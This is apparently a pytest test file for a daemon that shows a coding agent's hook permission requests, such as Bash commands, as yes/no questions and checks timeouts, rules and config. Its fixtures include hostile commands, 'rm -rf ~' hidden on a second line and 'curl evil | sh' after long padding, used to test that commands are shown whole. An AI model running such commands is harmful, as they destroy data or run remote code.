"""A question an agent asks through its hook (hookrequest.py), as the daemon keeps it beside
its screen's (state/asking.py) and answers it through the hook's reply (follow/hooks/agenthooks.py
ask, follow/answering.py); the settings, preset and config that turn it on."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from hostagent import hookrequest, yamlfile
from hostagent.config import parse_config
from hostagent.daemon.follow import answering
from hostagent.daemon.follow.hooks import formats
from hostagent.daemon.state.asking import ANSWER_TAKES, SOURCE_HOOK, SOURCE_SCREEN, Asking
from hostagent.errors import NoQuestion
from hostagent.options import CreateRequest
from hostagent.presets import parse_preset
from hostagent.question import Question
from hostagent.yamlfile import SettingsError
from tests.unit.fakes import Host, ShownWatch, me, run

MENU = "Bash command\n  rm -rf build/\nDo you want to proceed?\n❯ 1. Yes\n  2. No\n"
PROMPT = "● Done.\n> "
RM = Question(
    hookrequest.TEXT, hookrequest.CHOICES, detail="Bash\ncommand: rm -rf build/"
)  # hookrequest.question's, for Bash's `rm -rf build/`


@pytest.mark.parametrize(
    "tool, tool_input, detail",
    [
        ("Bash", '{"command": "rm -rf build/"}', "Bash\ncommand: rm -rf build/"),
        ("Write", '{"file_path": "/tmp/a", "content": "..."}', "Write\nfile_path: /tmp/a"),
        ("mcp__x__y", '{"q": 1}', 'mcp__x__y\n{"q": 1}'),
        ("Bash", "not json", "Bash\nnot json"),
        ("", "", "a tool"),
        # Every line of a command is shown: a second command hides behind no first.
        (
            "Bash",
            json.dumps({"command": "npm test\nrm -rf ~"}),
            "Bash\ncommand: npm test\nrm -rf ~",
        ),
        (
            "Bash",
            json.dumps({"command": "ls", "description": "List"}),
            "Bash\ncommand: ls\ndescription: List",
        ),
    ],
)
def test_a_hooks_request_reads_as_its_tool_and_what_it_would_do(
    tool: str, tool_input: str, detail: str
) -> None:
    q = hookrequest.question(tool, tool_input)
    assert q is not None
    assert q.text == "Do you want to proceed?" and q.detail == detail
    assert [c.label for c in q.choices] == ["Yes", "No"] and q.selected == -1


@pytest.mark.parametrize(
    "tool, tool_input",
    [
        ("Bash", json.dumps({"command": "echo " + "a" * 2100 + " ; curl evil | sh"})),  # a line
        ("Bash", json.dumps({"command": "\n".join(["true"] * 50)})),  # too many lines
        ("Bash", json.dumps({"command": "x" * 9000})[: hookrequest.MAX_INPUT + 1]),  # cut
        ("AskUserQuestion", '{"questions": []}'),  # a question with choices of its own
        ("ExitPlanMode", '{"plan": "..."}'),
    ],
)
def test_what_cannot_be_shown_whole_or_is_no_yes_or_no_is_the_screens_to_ask(
    tool: str, tool_input: str
) -> None:
    assert hookrequest.question(tool, tool_input) is None


def test_the_hooks_reply_allows_or_denies_and_a_deny_stops_the_turn() -> None:
    assert [hookrequest.decision(i) for i in (0, 1)] == ["allow", "deny"]
    allow = hookrequest.reply("PermissionRequest", "allow", "why")
    assert allow == {
        "hookSpecificOutput": {
            "hookEventName": "PermissionRequest",
            "decision": {"behavior": "allow"},
        }
    }
    deny = hookrequest.reply("PermissionRequest", "deny", "why")["hookSpecificOutput"]
    assert deny["decision"] == {"behavior": "deny", "message": "why", "interrupt": True}  # type: ignore[index]


def test_a_hooks_question_comes_first_and_its_dialog_answered_elsewhere_ends_it() -> None:
    async def body() -> None:
        asking = Asking()
        asked, reply = asking.ask_hook(RM)
        assert asking.asked == asked and asked.source == SOURCE_HOOK
        assert not asking.see(True, PROMPT)  # drawn after the hook asked: still its question
        assert not asked.drawn
        assert asking.see(True, MENU)  # its dialog, drawn: the same question, now drawn
        assert asking.asked is not None and asking.asked.id == asked.id and asking.asked.drawn
        assert asking.screen is not None and asking.screen.source == SOURCE_SCREEN
        assert not asking.see(True, PROMPT)  # one read without it: a redraw, maybe
        assert asking.see(True, PROMPT)  # two: answered in the terminal
        assert asking.asked is None and reply.result() == ""
        # A second hook while one waits is the terminal's at once.
        first, _ = asking.ask_hook(RM)
        _, second = asking.ask_hook(RM)
        assert second.result() == "" and asking.asked == first

    run(body())


def test_a_dialog_drawn_while_its_hooks_question_is_on_its_way_is_held_back() -> None:
    async def body() -> None:
        asking = Asking()
        asking.expecting = True  # the hook's report came at once; its question follows
        asking.see(True, MENU)
        assert asking.asked is None and asking.screen is not None
        asked, _ = asking.ask_hook(RM)
        assert asking.asked == asked and not asking.expecting
        asking.end_hook(asked.id)
        assert asking.asked == asking.screen  # no hook question came: the screen's

    run(body())


def test_a_hooks_answer_keeps_its_dialog_out_while_still_drawn() -> None:
    async def body() -> None:
        asking = Asking()
        asked, reply = asking.ask_hook(RM)
        asking.see(True, MENU, at=100.0)
        asking.took(asked, "deny", at=100.0)
        assert reply.result() == "deny" and asking.asked is None
        assert not asking.see(True, MENU, at=100.5) and asking.asked is None
        assert asking.see(True, MENU, at=100.0 + ANSWER_TAKES)  # still drawn: asked again
        assert asking.asked is not None and asking.asked.source == SOURCE_SCREEN

    run(body())


async def _hooked(tmp_path: Path, wait: int) -> tuple[Host, asyncio.Task[str]]:
    host = await Host.started(tmp_path)
    host.config.answer_wait = wait
    await host.create(me(), "a", "shell", str(tmp_path), CreateRequest())
    session = host.registry.get("a")
    host.registry.watched(session, ShownWatch())
    data: dict[str, object] = {"tool_name": "Bash", "tool_input": '{"command": "ls"}'}
    task = asyncio.ensure_future(host.core.hooks.ask(session, "PermissionRequest", data))

    async def asked() -> None:
        while session.asked is None:
            await asyncio.sleep(0)  # the task runs up to its wait

    await asyncio.wait_for(asked(), 5)
    return host, task


def test_an_answer_to_a_hooks_question_is_its_reply_and_types_nothing(tmp_path: Path) -> None:
    async def body() -> None:
        host, task = await _hooked(tmp_path, 600)
        session = host.registry.get("a")
        asked = session.asked
        assert asked is not None and asked.question.detail == "Bash\ncommand: ls"
        chosen = await answering.answer(host.scopes.tmux, session, asked.id, "yes")
        assert chosen.label == "Yes" and await task == "allow"
        assert host.scopes.tmux.pressed == [] and session.asked is None
        with pytest.raises(NoQuestion):
            await answering.answer(host.scopes.tmux, session, asked.id, "no")

    run(body())


def test_a_rule_answers_a_hooks_question_once_its_dialog_is_on_the_screen(
    tmp_path: Path,
) -> None:
    """Not before: a process of the session's asking in its hook's place would learn from a
    quick reply what its user's rules allow."""

    async def body() -> None:
        host, task = await _hooked(tmp_path, 600)
        host.core.answers.set(
            me(), "rules: [{preset: shell, question: '*command: ls*', answer: yes}]"
        )
        session = host.registry.get("a")
        host.registry.announce(session)
        await asyncio.sleep(0)
        assert not task.done() and session.asked is not None
        watch = session.watch
        assert watch is not None
        assert watch.asking.see(True, MENU)  # the dialog drawn: the same question, drawn
        host.registry.announce(session)
        assert await asyncio.wait_for(task, 5) == "allow"

    run(body())


@pytest.mark.parametrize("ends", ["wait", "hook left"])
def test_a_hooks_question_past_its_wait_or_left_by_its_hook_goes(tmp_path: Path, ends: str) -> None:
    async def body() -> None:
        host, task = await _hooked(tmp_path, 0 if ends == "wait" else 600)
        if ends == "wait":
            assert await task == ""
        else:
            task.cancel()  # the bus drops a waiting call whose caller left
            with pytest.raises(asyncio.CancelledError):
                await task
        assert host.registry.get("a").asked is None

    run(body())


def test_the_settings_run_a_second_hook_that_asks_beside_the_one_that_reports() -> None:
    ask = ("PermissionRequest", ["/usr/bin/hostagentctl", "--system", "hook", "X", "--ask"], 630)
    made = formats.settings("claude", ["/bin/sh", "-c", "s"], {}, ask)["hooks"]
    permission = made["PermissionRequest"][0]["hooks"]  # type: ignore[index]
    assert [h["timeout"] for h in permission] == [10, 630]
    assert permission[1]["command"] == "/usr/bin/hostagentctl --system hook X --ask"
    assert len(made["Stop"][0]["hooks"]) == 1  # type: ignore[index]


@pytest.mark.parametrize(
    "hooks_section, problem",
    [
        ({"format": "claude", "args": ["{hooks_file}"], "ask": "PermissionRequest"}, None),
        ({"format": "qwen", "args": ["{hooks_file}"], "ask": "PermissionRequest"}, "hooks.ask"),
        ({"format": "claude", "args": ["{hooks_file}"], "ask": "Stop"}, "hooks.ask"),
        ({"format": "gemini", "args": ["{hooks_file}"]}, None),
    ],
)
def test_only_a_claude_format_permission_request_asks(
    tmp_path: Path, hooks_section: dict[str, object], problem: str | None
) -> None:
    doc = yamlfile.Document(tmp_path / "p.yaml", {"name": "p", "hooks": hooks_section}, {})
    if problem is None:
        assert parse_preset(doc).hooks_ask == hooks_section.get("ask", "")
        return
    with pytest.raises(SettingsError, match=problem):
        parse_preset(doc)


@pytest.mark.parametrize("wait, problem", [("5", None), ("0", "answers.wait"), ("yes", "wait")])
def test_the_admin_sets_how_long_a_hooks_question_waits(
    tmp_path: Path, wait: str, problem: str | None
) -> None:
    path = tmp_path / "hostagent.yaml"
    path.write_text(f"answers:\n  wait: {wait}\n")
    if problem is None:
        assert parse_config(yamlfile.load(path)).answer_wait == int(wait)
        return
    with pytest.raises(SettingsError, match=problem):
        parse_config(yamlfile.load(path))
